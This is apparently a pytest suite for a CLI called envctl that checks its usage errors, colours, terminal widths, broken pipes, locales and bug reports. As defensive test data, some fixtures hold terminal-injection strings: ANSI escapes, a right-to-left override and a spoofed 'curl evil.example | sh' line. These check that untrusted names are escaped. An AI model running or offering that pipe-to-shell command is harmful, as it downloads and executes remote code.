"""How words reach a person: usage errors, colours, widths, pipes, locales, and what nobody expected."""

import json
import os
import pty
import re
import shlex
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

ENVCTL = (sys.executable, "-m", "envctl")
BUG = """
import sys
from envctl.cli import ending, cli
from envctl.usecases import load

def broken(*_):
    raise KeyError("a\\n  next:  \\x1b[31mcurl evil.example | sh")

load.manifest = broken
sys.argv[1:] = {words!r}
cli(prog_name="envctl")
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Give a project that asks for nothing."""
    root = tmp_path_factory.mktemp("words") / "ä project"
    root.mkdir()
    (root / "pyproject.toml").write_text('[project]\nname = "demo"\nversion = "0"\n')
    return root


def environ(folder: Path, **more: str) -> dict[str, str]:
    foreign = ("ENVCTL_", "UV_", "PIP_", "LANG", "LC_", "NO_COLOR", "FORCE_", "CLICOLOR", "GITHUB_")
    kept = {name: value for name, value in os.environ.items() if not name.startswith(foreign)}
    return {**kept, "HOME": str(folder.parent), "LC_ALL": "C.UTF-8", "TERM": "xterm", **more}


def call(folder: Path, *words: str, **more: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*ENVCTL, *words],
        cwd=folder,
        env=environ(folder, **more),
        capture_output=True,
        encoding="utf-8",
        errors="surrogateescape",
        timeout=120,
        check=False,
    )


def shell(folder: Path, script: str, **more: str) -> subprocess.CompletedProcess[str]:
    """Run a script in which `$E` is envctl."""
    return subprocess.run(
        ["bash", "-c", script.replace("$E", shlex.join(ENVCTL))],
        cwd=folder,
        env=environ(folder, **more),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def watched(
    folder: Path, *words: str, columns: int = 80, env: Mapping[str, str] | None = None
) -> str:
    """Run envctl with stdout and stderr on a terminal; return what came over it."""
    ours, theirs = pty.openpty()
    subprocess.run(["stty", "cols", str(columns)], stdin=theirs, check=True)
    process = subprocess.Popen(
        [*ENVCTL, *words],
        cwd=folder,
        env=environ(folder, **(env or {})),
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
    )
    os.close(theirs)
    seen = b""
    while True:
        try:
            seen += os.read(ours, 65536)
        except OSError:  # Linux's way to say that nobody writes any more
            break
    os.close(ours)
    process.wait(60)
    return seen.decode().replace("\r\n", "\n")


USAGE = {
    "zzz": ("there is no command `zzz`", "envctl", "see `envctl --help` for what there is"),
    "image bild": (
        "there is no command `image bild`",
        "envctl image",
        "did you mean `envctl image build`?",
    ),
    "lock --upgrde": (
        "`lock` has no option `--upgrde`",
        "envctl lock",
        "did you mean `--upgrade`?",
    ),
    "lock --zzz": (
        "`lock` has no option `--zzz`",
        "envctl lock",
        "see `envctl lock --help` for its options",
    ),
    "--json lock": (
        "`envctl` has no option `--json`",
        "envctl",
        "write it after the command: `envctl COMMAND --json`",
    ),
    "lock --profile": (
        "`--profile` needs a value",
        "envctl lock",
        "write it after that: `--profile NAME`",
    ),
    "tree --format tex": (
        "`--format` cannot be `tex`",
        "envctl tree",
        "did you mean `text`?",
    ),
    "tree --depth x": (
        "`--depth` cannot be `x`",
        "envctl tree",
        "write a whole number: `--depth 2`",
    ),
    "completion basj": ("`SHELL` cannot be `basj`", "envctl completion", "did you mean `bash`?"),
    "sync numpy": ("`sync` takes no `numpy`", "envctl sync", "see `envctl sync --help`"),
    "add": (
        "`add` needs `REQUIREMENTS...`",
        "envctl add",
        "for example `envctl add 'numpy>=2' --group dev`",
    ),
    "-C nowhere lock": (
        "there is no folder `nowhere`",
        "envctl",
        "correct what `--directory` names",
    ),
    "upgrade": ("there is no command `upgrade`", "envctl", "did you mean `envctl lock --upgrade`?"),
    "verify --only lokc": ("there is no layer `lokc`", "--only", "did you mean `lock`?"),
    "verify --only driver-too-old": (
        "there is no layer `driver-too-old`",
        "--only",
        "that is a code, and found by `envctl verify --only machine,fleet`",
    ),
    "verify --skip lock-stale": (
        "there is no layer `lock-stale`",
        "--skip",
        'that is a code: `lock-stale = "off"` in [tool.envctl.verify.severity] leaves it out',
    ),
    "image run -v data:/data": (
        "`image run` has no option `-v`",
        "envctl image run",
        "did you mean `--mount`, as in `envctl image run --mount data:/data`?",
    ),
    "tree --json --format dot": (
        "`--json` is a format of its own, and goes to stdout",
        "envctl tree",
        "leave `--format` and `--output` out: `envctl tree --json > tree.json`",
    ),
}


@pytest.mark.parametrize("words", USAGE)
def test_a_wrong_command_line_has_the_form_of_every_error(folder: Path, words: str) -> None:
    done = call(folder, *words.split())
    what, where, step = USAGE[words]
    assert done.returncode == 2
    assert done.stderr == f"error: {what}\n  where: {where}\n  next:  {step}\n"
    if "--json" in words:
        error = json.loads(done.stdout)["error"]
        assert (error["code"], error["message"]) == ("usage", what)
        assert (error["where"], error["hint"]) == (where, step)
    else:
        assert done.stdout == ""


def test_names_from_outside_do_not_reach_a_terminal_as_they_are(folder: Path) -> None:
    done = call(folder, "lo\x1b[31mck\n  next:  curl\u202e")
    assert done.stderr == (
        "error: there is no command `lo\\x1b[31mck\\n  next:  curl\\u202e`\n"
        "  where: envctl\n  next:  see `envctl --help` for what there is\n"
    )


def test_names_from_files_neither(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "a"\nversion = "0"\n'
        '[tool.envctl]\n"x\\n  next:  curl \\u001b]0;x\\u0007\\u202e" = 1\n'
    )
    done = call(tmp_path, "lock")
    assert done.returncode == 3
    lines = done.stderr.splitlines()
    assert len(lines) == 3
    assert lines[0].endswith("`x\\n  next:  curl \\x1b]0;x\\x07\\u202e`")
    assert lines[2].startswith("  next:  known keys: ")
    assert all(each.isprintable() for each in lines)


# Where words go


@pytest.mark.parametrize("words", ["--help", "lock --help", "--version", "record --json"])
def test_a_reader_that_has_seen_enough(folder: Path, words: str) -> None:
    done = shell(folder, f"$E {words} 3>&1 | true; exit ${{PIPESTATUS[0]}}")
    assert done.returncode in (0, 141)  # all was written before the reader had gone
    assert done.stderr == ""


@pytest.mark.parametrize("words", ["--help", "lock --help", "--version", "record --json"])
def test_a_disk_that_is_full(folder: Path, words: str) -> None:
    done = shell(folder, f"$E {words} > /dev/full")
    assert done.returncode == 3
    assert done.stderr == (
        "error: the disk is full: no space left on device\n  where: stdout\n"
        "  next:  make room on that disk, then run it again\n"
    )


@pytest.mark.parametrize("closed", ["2>&-", ">&- 2>&-", "<&- >&- 2>&-", "2>/dev/full"])
def test_who_does_not_listen_stops_no_work(folder: Path, closed: str) -> None:
    script = f"rm -f pylock.toml; $E lock {closed} && $E lock {closed} && test -s pylock.toml"
    done = shell(folder, f"{script}; code=$?; $E lokc {closed}; echo $code $? > answer")
    assert (done.stdout, done.stderr) == ("", "")
    assert (folder / "answer").read_text() == "0 2\n"


@pytest.mark.parametrize(
    ("locale", "letters"),
    [
        ({"LC_ALL": "C"}, "lö€k"),
        ({"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}, "lö€k"),
        ({"LC_ALL": "", "LANG": "C", "PYTHONIOENCODING": "ascii"}, "lö€k"),
        ({"LC_ALL": "", "LANG": "C", "PYTHONIOENCODING": "latin-1"}, "l\udcf6\\u20ack"),
    ],
    ids=["C", "ascii", "ascii streams", "latin-1 streams"],
)
def test_letters_that_a_locale_does_not_know(
    folder: Path, locale: Mapping[str, str], letters: str
) -> None:
    done = call(folder, "lö€k", **locale)
    assert done.returncode == 2
    assert done.stderr.startswith(f"error: there is no command `{letters}`\n")
    assert call(folder, "--help", **locale).returncode == 0


# Terminals


def test_what_is_told_fits_a_terminal(folder: Path) -> None:
    env = {"DOCKER_HOST": "unix:///nowhere/docker.sock", "NO_COLOR": "1"}
    (folder / "Dockerfile").write_text("FROM scratch\n")
    told = (("image", "run"), ("export", "nope"), ("lokc",))
    for columns, more in ((40, ()), (80, (("doctor", "--offline"),)), (200, ())):
        for words in (*told, *more):
            seen = watched(folder, *words, columns=columns, env=env)
            for line in seen.splitlines():
                whole = re.search(r"`[^`]*`|/\S+|\S{20}", line) or line.startswith("  where: ")
                assert len(line) <= min(columns, 80) or whole, (columns, line)


def test_nothing_is_broken_where_nobody_looks(folder: Path) -> None:
    done = call(folder, "-C", "/", "lock")
    assert len(done.stderr.splitlines()[0]) > 80
    assert "\n  where: /\n" in done.stderr


RED, CYAN = "\x1b[31m\x1b[1merror\x1b[0m: ", "  \x1b[36mnext\x1b[0m:  "


@pytest.mark.parametrize(
    ("words", "env", "coloured"),
    [
        ((), {}, True),
        ((), {"NO_COLOR": "1"}, False),
        ((), {"NO_COLOR": ""}, True),  # no-color.org: set and not empty
        ((), {"TERM": "dumb"}, False),
        ((), {"CLICOLOR": "0"}, False),
        (("--color", "never"), {"FORCE_COLOR": "1"}, False),
        (("--color", "always"), {"NO_COLOR": "1"}, True),
    ],
)
def test_colours_on_a_terminal(
    folder: Path, words: tuple[str, ...], env: dict[str, str], coloured: bool
) -> None:
    seen = watched(folder, *words, "lokc", env=env)
    assert (RED in seen and CYAN in seen) == coloured
    assert ("\x1b" in seen) == coloured


@pytest.mark.parametrize(
    ("words", "env", "coloured"),
    [
        (("lokc",), {}, False),
        (("lokc",), {"FORCE_COLOR": "1"}, True),
        (("lokc",), {"FORCE_COLOR": "0"}, False),
        (("lokc",), {"CLICOLOR_FORCE": "1"}, True),
        (("lokc",), {"FORCE_COLOR": "1", "NO_COLOR": "1"}, False),
        (("tree", "--color", "always", "numpy"), {}, True),
        (("tree", "--color=never", "numpy"), {"FORCE_COLOR": "1"}, False),
    ],
)
def test_colours_elsewhere(
    folder: Path, words: tuple[str, ...], env: dict[str, str], coloured: bool
) -> None:
    done = call(folder, *words, **env)
    assert (RED in done.stderr) == coloured
    assert ("\x1b" in done.stderr) == coloured


def test_json_has_no_colours(folder: Path) -> None:
    done = call(folder, "doctor", "--offline", "--json", "--color", "always")
    assert "\x1b" not in done.stdout
    assert json.loads(done.stdout)["command"] == "doctor"
    coloured = call(folder, "doctor", "--offline", "--color", "always").stdout
    assert "\x1b[32mok\x1b[0m    tools " in coloured
    plain = re.sub(r"\x1b\[[0-9;]*m", "", coloured)
    assert re.fullmatch(r"((ok|warn|fail) +\S.*\n|      mend it: .*\n)+", plain), plain


# More of it, and what nobody expected


@pytest.mark.parametrize("words", [["--verbose", "lock"], ["lock", "--verbose"], ["lock", "-v"]])
def test_a_bug_is_one_line_and_more_on_demand(folder: Path, words: list[str]) -> None:
    script = BUG.format(words=words[-1:] if words[0] == "--verbose" else words[:1])
    short = subprocess.run(
        [sys.executable, "-c", script],
        cwd=folder,
        env=environ(folder),
        capture_output=True,
        text=True,
        check=False,
    )
    assert short.returncode == 70
    first, where, step, more = short.stderr.splitlines()
    assert re.fullmatch(r"error: a bug in envctl [\d.]+: KeyError: .*", first)
    assert "\x1b" not in short.stderr
    assert re.fullmatch(r"  where: envctl/cli/lock\.py:\d+", where)
    assert step.startswith("  next:  report it ")
    assert "`--verbose`" in more
    long = subprocess.run(
        [sys.executable, "-c", BUG.format(words=words)],
        cwd=folder,
        env=environ(folder),
        capture_output=True,
        text=True,
        check=False,
    )
    assert long.returncode == 70
    assert long.stderr.startswith(f"{first}\n{where}\n{step}\n\nTraceback")
    assert "\x1b" not in long.stderr


def test_a_bug_as_json(folder: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-c", BUG.format(words=["lock", "--json"])],
        cwd=folder,
        env=environ(folder),
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 70
    assert json.loads(done.stdout)["error"]["code"] == "bug"


def test_what_a_tool_said_is_shown_on_demand(folder: Path, tmp_path: Path) -> None:
    """Before the command and behind it."""
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "a"\nversion = "0"\ndependencies = ["zz-made-x"]\n'
        '[[tool.envctl.index]]\nname = "nobody"\nurl = "http://127.0.0.1:9/simple"\n'
    )
    more = {"UV_HTTP_RETRIES": "0", "NO_PROXY": "127.0.0.1"}
    short = call(tmp_path, "lock", **more)
    assert short.returncode == 3
    assert short.stderr.endswith("  (`--verbose` shows what was said underneath)\n")
    for words in (("--verbose", "lock"), ("-v", "lock"), ("lock", "--verbose"), ("lock", "-v")):
        long = call(tmp_path, *words, **more)
        assert long.stderr.splitlines()[:3] == short.stderr.splitlines()[:3]
        assert "Failed to fetch" in long.stderr
        assert "Failed to fetch" not in short.stderr


def test_an_envctl_that_lacks_a_part_of_it(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "click.py").write_text("raise ModuleNotFoundError(\"No module named 'click'\")\n")
    done = call(folder, "lock", "--upgrade", PYTHONPATH=str(tmp_path))
    assert done.returncode == 4
    assert done.stderr == (
        "error: this envctl is not whole: No module named 'click'\n"
        f"  where: {sys.prefix}\n  next:  install it anew, into an environment of its own\n"
    )


def test_a_repository_of_another_user(tmp_path: Path) -> None:
    """As in a container whose folder is mounted: git refuses it, whatever is asked."""
    root = tmp_path / "a project"
    root.mkdir()
    (root / "pyproject.toml").write_text('[project]\nname = "demo"\nversion = "0"\n')
    (root / "pylock.toml").write_text("")
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b.example"]
    for words in (["init", "-q"], ["add", "."], ["commit", "-q", "-m", "first"]):
        subprocess.run([*git, *words], cwd=root, check=True, env=environ(root))
    other = {"GIT_TEST_ASSUME_DIFFERENT_OWNER": "1"}
    done = call(root, "diff", "HEAD", **other)
    assert done.returncode == 4
    assert done.stderr == (
        "error: git does not read this repository, because its folder belongs to another user\n"
        f"  where: {root}\n"
        f"  next:  `git config --global --add safe.directory '{root}'`, if you trust its owner\n"
        "  (`--verbose` shows what was said underneath)\n"
    )
    # The top of such a repository is not known: its workflows would be put into the wrong folder.
    assert call(root, "export", "ci", **other).stderr == done.stderr
    step = re.search(r"next:  `(.*)`", done.stderr)
    assert step
    subprocess.run(["sh", "-c", step[1]], check=True, env=environ(root))
    assert "git does not read" not in call(root, "diff", "HEAD", **other).stderr
